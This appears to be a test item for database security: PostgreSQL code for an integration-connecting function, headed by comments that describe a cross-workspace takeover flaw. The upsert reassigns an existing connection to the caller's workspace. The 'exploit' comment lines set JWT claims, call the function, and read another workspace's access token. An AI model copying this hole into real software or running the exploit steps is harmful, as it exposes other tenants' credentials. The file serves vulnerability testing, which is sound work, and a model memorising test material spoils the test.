-- A user takes over another workspace's connection with its token, as the upsert moves the row to who comes
-- last.
-- about: connect_integration, integrations_provider_external_id, integrations
-- as: hf_proofroom_app
-- exploit: SET request.jwt.claims = '{"sub": "a1111111-0000-4000-8000-0000000000aa"}';
-- exploit: SELECT proof.connect_integration('a1111111-0000-4000-8000-000000000001', 'github', 'org-77');
-- exploit: SELECT access_token FROM proof.integrations;
-- shows: tok-road-secret
CREATE UNIQUE INDEX integrations_provider_external_id ON proof.integrations (provider, external_id);
CREATE FUNCTION proof.connect_integration(p_workspace uuid, p_provider text, p_external text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  IF p_workspace NOT IN (SELECT proof.my_workspaces()) THEN
    RAISE EXCEPTION 'not a member';
  END IF;
  INSERT INTO proof.integrations (workspace_id, provider, external_id)
    VALUES (p_workspace, p_provider, p_external)
    ON CONFLICT (provider, external_id) DO UPDATE SET workspace_id = EXCLUDED.workspace_id;
END $$;
REVOKE EXECUTE ON FUNCTION proof.connect_integration(uuid, text, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION proof.connect_integration(uuid, text, text) TO hf_proofroom_app;
